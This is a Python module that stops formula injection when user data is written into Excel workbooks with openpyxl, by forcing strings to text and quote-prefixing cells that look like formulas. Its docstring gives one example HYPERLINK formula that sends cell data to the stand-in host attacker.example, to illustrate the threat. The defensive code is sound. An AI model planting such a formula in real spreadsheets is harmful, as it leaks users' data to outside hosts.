"""Writing user data into workbooks safely: every text cell is text, never a formula.

A project title such as ``=HYPERLINK("http://attacker.example/?d="&A2,"Xem")`` would otherwise become a live
formula (openpyxl turns any string starting with ``=`` into one), and a text starting with ``+``, ``-``, ``@``,
a tab or a carriage return is read as a formula by Excel or LibreOffice as soon as someone edits the cell.

The choice: the value is kept exactly (no added apostrophe or space, so a workbook read back, or imported
again, gives the title as typed), its type is forced to a string (``data_type = "s"``), and a cell that starts
with one of those characters also gets Excel's *quote prefix* style (``quotePrefix``: what typing a leading
apostrophe does in Excel), so editing the cell keeps it text. Every workbook writer saves through
``workbook_bytes`` (which secures every cell of an ordinary workbook) and builds the rows of a streamed
(write-only) workbook with ``safe_row``; numbers, dates and booleans pass through unchanged.
"""

import io

from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell

# What spreadsheet programs read as the start of a formula (OWASP "CSV injection"), plus line breaks.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def as_text(cell: Cell) -> Cell:
    """Force a cell that holds a string to be stored as a string; quote-prefix it when it looks like a formula."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if looks_like_formula(cell.value):
            cell.quotePrefix = True
    return cell


def text_cell(sheet, value) -> WriteOnlyCell:
    """A cell for a write-only or ordinary sheet; strings are text (see the module docstring)."""
    return as_text(WriteOnlyCell(sheet, value=value))


def safe_row(sheet, values) -> list:
    """A row for ``sheet.append``: every plain string becomes a text cell, anything else is left as it is."""
    return [text_cell(sheet, value) if isinstance(value, str) else value for value in values]


def secure_sheet(sheet) -> None:
    """Make every string already in an ordinary (not write-only) sheet a text cell, whatever wrote it."""
    for row in sheet.iter_rows():
        for cell in row:
            as_text(cell)


def workbook_bytes(workbook: Workbook) -> bytes:
    """The saved workbook; an ordinary workbook's strings are made text cells first (a streamed, write-only one
    cannot be read back before saving: its rows must come from ``safe_row``)."""
    if not workbook.write_only:
        for sheet in workbook.worksheets:
            secure_sheet(sheet)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
